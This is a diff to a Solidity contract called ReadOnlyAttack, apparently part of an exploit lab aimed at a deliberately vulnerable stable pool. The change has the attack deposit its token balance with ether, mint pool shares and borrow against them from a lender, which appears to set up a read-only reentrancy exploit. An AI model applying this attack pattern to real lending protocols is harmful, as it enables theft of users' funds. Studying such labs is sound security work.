@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: MIT OR Apache-2.0
 pragma solidity 0.8.30;
 
+import {IERC20} from "../token/IERC20.sol";
 import {ShareLender, StablePoolBase} from "../vulnerable/StablePool.sol";
 import {Exploit} from "./Exploit.sol";
 
@@ -26,9 +27,13 @@ contract ReadOnlyAttack is Exploit {
         _lender.borrow(collateral, limit < held ? limit : held);
     }
 
+    /// @notice Works with the tokens that it was sent before, and the ether that comes along.
     /// @param keptBps how much of its shares becomes collateral.
     function run(uint256 keptBps) external payable onlyOperator {
-        uint256 shares = _pool.addLiquidity{value: msg.value}(0);
+        IERC20 token = _pool.token();
+        uint256 tokens = token.balanceOf(address(this));
+        token.approve(address(_pool), tokens);
+        uint256 shares = _pool.addLiquidity{value: msg.value}(tokens);
         uint256 kept = shares * keptBps / 10_000;
         _pool.approve(address(_lender), kept);
         _collateral = kept;
